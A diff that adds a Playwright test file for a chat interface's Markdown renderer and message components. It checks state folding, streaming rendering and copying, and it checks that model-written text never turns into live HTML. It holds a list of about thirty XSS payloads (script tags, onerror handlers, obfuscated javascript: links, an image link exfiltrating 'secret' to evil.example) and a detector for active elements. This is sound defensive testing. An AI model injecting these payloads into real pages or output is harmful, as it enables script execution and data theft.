@@ -1,0 +1,316 @@
+"""What the page draws: the fold of its state, Markdown as it grows, and that nothing a model says comes alive."""
+
+import json
+
+import pytest
+from playwright.async_api import Page
+
+from tests.browser.recorded_runs import RUNS, logged, snapshot_after
+from tests.browser.rendering import ORIGIN, serve
+
+MARKDOWN = """# A plan for **three scenes**
+
+Twenty seconds *in all*, with ~~four~~ `scene_2` and snake_case_names; see [the guide](https://example.org/a_b) or
+https://example.org/x_y. Prices from $5 to $7, note [1], and arrays[0].
+
+1. Dawn, **6 s**
+   - steam
+   - a door
+
+   ```python
+   def scene():
+
+   \treturn "tab"
+   ```
+2. Cup
+
+> Quoted, *and so on*
+
+| scene | seconds |
+|---|---|
+| Dawn | 6 |
+| Cup | **8** |
+
+- [x] done
+- [ ] not yet
+
+```js
+const a = `x`;
+\tif (a < 1) { b(); }
+
+// **not bold**
+```
+The end 🎬, **and** __more__."""
+
+XSS = [
+    "<script>pwned()</script>",
+    "<img src=x onerror=pwned()>",
+    "<svg onload=pwned()><a xlink:href=javascript:pwned()>x</a></svg>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
+    "<form action=https://evil.example><input name=attributes><button>x</button></form>",
+    "<base href=https://evil.example/>",
+    "<object data=https://evil.example></object><embed src=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "[x](javascript:pwned())",
+    "[x](JaVaScRiPt:pwned())",
+    "[x](java\tscript:pwned())",
+    "[x](&#106;avascript:pwned())",
+    "[x](\u0001javascript:pwned())",
+    "[x](data:text/html,<script>pwned()</script>)",
+    "[x](vbscript:pwned())",
+    "[x](//evil.example)",
+    '[x](https://example.org" onmouseover="pwned())',
+    "![x](https://evil.example/?d=secret)",
+    "![x](javascript:pwned())",
+    "![<img src=x onerror=pwned()>](https://evil.example/i.png)",
+    "[![x](https://evil.example/i.png)](javascript:pwned())",
+    "<https://evil.example> <javascript:pwned()>",
+    "```<img src=x onerror=pwned()>\n<script>pwned()</script>\n```",
+    "`<img src=x onerror=pwned()>`",
+    "# <img name=body><form id=chat-page>",
+    "| <img src=x onerror=pwned()> |\n|---|\n| [x](javascript:pwned()) |\n",
+    "- [x] <video src=https://evil.example onerror=pwned()>",
+    "$<math><mtext></mtext></math>$ \\(<img src=x onerror=pwned()>\\)",
+    "<br onclick=pwned()><br/>",
+    "\u202e)(gro.elpmaxe\u202c [x](java\u200bscript:pwned()) \x1b]0;x\x07",
+]
+
+# What must never be in the page: elements that load or run or submit, handlers, and addresses that are not plain links.
+FIND_ACTIVE = """(root) => [...root.querySelectorAll("*")].filter((node) =>
+    /^(script|img|image|svg|math|style|iframe|frame|object|embed|form|input|base|link|meta|video|audio|source|template)$/i
+      .test(node.localName) && !node.matches(".icon")
+    || [...node.attributes].some(({name, value}) => /^on|^(style|src|srcset|srcdoc|action|formaction|data|xlink:href)$/i.test(name)
+      || name === "href" && !/^(https?|mailto):/.test(value))
+  ).map((node) => node.outerHTML)"""
+
+PREPARE = """async () => {
+  const {MarkdownView} = await import("projects/markdown.js");
+  globalThis.findActive = %s;
+  globalThis.pwned = () => { globalThis.isPwned = true; };
+  globalThis.newView = () => {
+    const root = document.createElement("div");
+    document.querySelector("main").replaceChildren(root);
+    return {root, view: new MarkdownView(root)};
+  };
+  globalThis.shape = (root) => { root.normalize(); return root.innerHTML; };
+}"""
+
+
+@pytest.fixture
+async def strays(page: Page) -> list[str]:
+    """Requests the page should not have made."""
+    strays = await serve(page)
+    await page.goto(ORIGIN)
+    await page.evaluate(PREPARE % FIND_ACTIVE)
+    yield strays
+    assert strays == []
+
+
+@pytest.fixture
+def studio(page: Page, strays: list[str]) -> Page:
+    return page
+
+
+@pytest.mark.parametrize("run", RUNS)
+async def test_a_snapshot_and_the_events_after_it_are_the_later_snapshot(studio: Page, run: str):
+    events = logged(run)
+    snapshots = [snapshot_after(events[:k]) for k in range(len(events) + 1)]
+    states = await studio.evaluate(
+        """async ([snapshots, events]) => {
+          const {emptyState, reduce} = await import("projects/state.js");
+          return snapshots.map((snapshot, k) => events.slice(k).reduce(reduce, reduce(emptyState, snapshot)));
+        }""",
+        [snapshots, events],
+    )
+    expected = {key: value for key, value in snapshots[-1].items() if key != "type"}
+    for k, state in enumerate(states):
+        for message in state["messages"]:
+            message.pop("started", None)  # the wire does not tell yet when a run began
+        assert state == expected, f"snapshot({k}) and the events after it"
+
+
+@pytest.mark.parametrize("run", RUNS)
+async def test_everything_but_a_delta_may_come_twice(studio: Page, run: str):
+    [once, twice] = await studio.evaluate(
+        """async (events) => {
+          const {emptyState, reduce} = await import("projects/state.js");
+          const repeated = events.flatMap((event) => event.type === "delta" ? [event] : [event, event]);
+          return [events, repeated].map((list) => list.reduce(reduce, emptyState));
+        }""",
+        logged(run),
+    )
+    assert once == twice
+
+
+async def test_markdown_split_anywhere_is_drawn_as_if_it_came_at_once(studio: Page):
+    [whole, by_character, differing] = await studio.evaluate(
+        """(text) => {
+          const draw = (...ends) => {
+            const {root, view} = newView();
+            for (const end of ends) view.update(text.slice(0, end), {whole: end === text.length});
+            return shape(root);
+          };
+          const everywhere = Array.from({length: text.length}, (_, index) => index + 1);
+          const whole = draw(text.length);
+          return [whole, draw(...everywhere), everywhere.filter((end) => draw(end, text.length) !== whole)];
+        }""",
+        MARKDOWN,
+    )
+    assert by_character == whole
+    assert differing == []
+
+
+async def test_markdown_means_what_people_expect(studio: Page):
+    whole = await studio.evaluate(
+        "(text) => { const {root, view} = newView(); view.update(text, {whole: true}); return root.innerHTML; }", MARKDOWN
+    )
+    for expected in [
+        "<strong>three scenes</strong>",
+        "<code>scene_2</code> and snake_case_names;",
+        'href="https://example.org/a_b" rel="noopener noreferrer nofollow" target="_blank">the guide</a>',
+        'href="https://example.org/x_y"',
+        "from $5 to $7, note ",
+        "☑ ",
+        "<th ",
+    ]:
+        assert expected in whole
+    text = await studio.evaluate("document.querySelector('main').innerText")
+    assert "note [1], and arrays[0]." in text
+    assert "The end 🎬, and more." in text
+
+
+async def test_while_it_streams_no_mark_shows_raw_and_nothing_drawn_is_touched(studio: Page):
+    result = await studio.evaluate(
+        """(text) => {
+          const {root, view} = newView();
+          const raw = [];
+          const removed = [];
+          const observer = new MutationObserver((records) => removed.push(...records.flatMap(({removedNodes}) => [...removedNodes])));
+          observer.observe(root, {subtree: true, childList: true});
+          for (let end = 1; end <= text.length; end++) {
+            view.update(text.slice(0, end));
+            if (/\\*\\*|```|~~|\\]\\(/.test(root.textContent)) raw.push(end);
+          }
+          view.update(text, {whole: true});
+          for (const record of observer.takeRecords()) removed.push(...record.removedNodes);
+          return {raw, removed: removed.length};
+        }""",
+        MARKDOWN.replace("// **not bold**", ""),
+    )
+    assert result == {"raw": [], "removed": 0}
+
+
+async def test_a_selection_made_in_mid_stream_survives(studio: Page):
+    selected = await studio.evaluate(
+        """() => {
+          const {root, view} = newView();
+          view.update("The **first** words of a para");
+          getSelection().setBaseAndExtent(root.querySelector("strong").firstChild, 1, root.querySelector("p").lastChild, 6);
+          const before = getSelection().toString();
+          view.update("The **first** words of a paragraph that goes on.\\n\\n- and\\n- on", {whole: true});
+          return [before, getSelection().toString()];
+        }"""
+    )
+    assert selected == ["irst words", "irst words"]
+
+
+async def test_text_that_does_not_continue_what_is_drawn_replaces_it(studio: Page):
+    texts = await studio.evaluate(
+        """() => {
+          const {root, view} = newView();
+          view.update("One **two");
+          view.update("One", {});
+          const restarted = root.textContent;
+          view.update("Something else", {whole: true});
+          return [restarted, root.textContent];
+        }"""
+    )
+    assert texts == ["On", "Something else"]  # the parser keeps one character back, until it knows what follows
+
+
+@pytest.mark.parametrize("code", ['def f():\n\n\tif a < b:\n\t\treturn "`x`"\n', "  two  spaces \n\n\n", "**a** _b_ [c](d) $e$"])
+async def test_copy_gives_the_exact_source(studio: Page, code: str):
+    copied = await studio.evaluate(
+        """async (code) => {
+          let copied = null;
+          Object.defineProperty(navigator, "clipboard", {value: {writeText: async (text) => { copied = text; }}, configurable: true});
+          const {root, view} = newView();
+          view.update("```py\\n" + code + "\\n```\\nafter", {whole: true});
+          root.querySelector("button").click();
+          return [copied, root.querySelector(".code-language").textContent, root.querySelector("pre").tabIndex];
+        }""",
+        code,
+    )
+    assert copied == [code, "py", 0]
+
+
+async def test_nothing_a_model_writes_comes_alive_wherever_it_is_split(studio: Page):
+    active = await studio.evaluate(
+        """(corpus) => {
+          const found = [];
+          for (const text of corpus) for (let end = 1; end <= text.length; end++) {
+            const {root, view} = newView();
+            view.update(text.slice(0, end));
+            found.push(...findActive(root));
+            view.update(text, {whole: true});
+            found.push(...findActive(root));
+          }
+          return [...new Set(found)];
+        }""",
+        XSS,
+    )
+    assert active == []
+    assert await studio.evaluate("globalThis.isPwned") is None
+
+
+async def test_nothing_comes_alive_in_messages_tools_and_questions(studio: Page):
+    active = await studio.evaluate(
+        """async (corpus) => {
+          await import("projects/message.js");
+          const found = [];
+          const show = (message) => {
+            const element = document.createElement("chat-message");
+            document.querySelector("main").replaceChildren(element);
+            element.update({message: {tool_calls: [], attempt: 1, ...message}, versions: [message], isLast: true});
+            found.push(...findActive(element));
+          };
+          for (const text of corpus) {
+            const call = {tool_call_id: text, name: text, title: text, arguments: {[text]: text}, payload: {[text]: text}};
+            const question = {tool_call_id: "q", name: "ask_user", payload: {question: text, options: [text]}, status: "success"};
+            show({id: text, role: "user", content: text, status: "failed", failure: {code: text, detail: text}});
+            show({id: text, role: "assistant", content: "", status: "running", phase: text,
+              tool_calls: [{...call, status: "running", detail: text}, {...call, tool_call_id: "e", status: "error", error: text}]});
+            show({id: text, role: "assistant", content: "", status: "error", error: {code: text, error: text, retryable: true},
+              usage: {model: text}, tool_calls: [question]});
+          }
+          return [...new Set(found)];
+        }""",
+        XSS,
+    )
+    assert active == []
+    assert await studio.evaluate("globalThis.isPwned") is None
+
+
+@pytest.mark.parametrize("text", ["> " * 60 + "deep", "".join("  " * n + "- x\n" for n in range(40))])
+async def test_what_nests_too_deep_is_shown_as_text(studio: Page, text: str):
+    shown = await studio.evaluate(
+        "(text) => { const {root, view} = newView(); view.update(text, {whole: true}); return root.textContent; }", text
+    )
+    assert shown.split() == text.split()
+
+
+async def test_the_admin_takes_html_strings_only_as_plain_elements(studio: Page):
+    html = await studio.evaluate(
+        """async (corpus) => {
+          await import("/static/projects/admin/trusted-types.js");
+          const box = document.createElement("div");
+          document.querySelector("main").replaceChildren(box);
+          const found = corpus.flatMap((text) => { box.innerHTML = text; return findActive(box); });
+          box.innerHTML = '<select id="a" class="b" onchange="pwned()" style="color:red"><option selected>c</option></select>';
+          return [JSON.stringify(found.filter((html) => !html.startsWith("<input"))), box.innerHTML];
+        }""",
+        XSS,
+    )
+    assert html == [json.dumps([]), '<select id="a" class="b"><option selected="">c</option></select>']
+    assert await studio.evaluate("globalThis.isPwned") is None
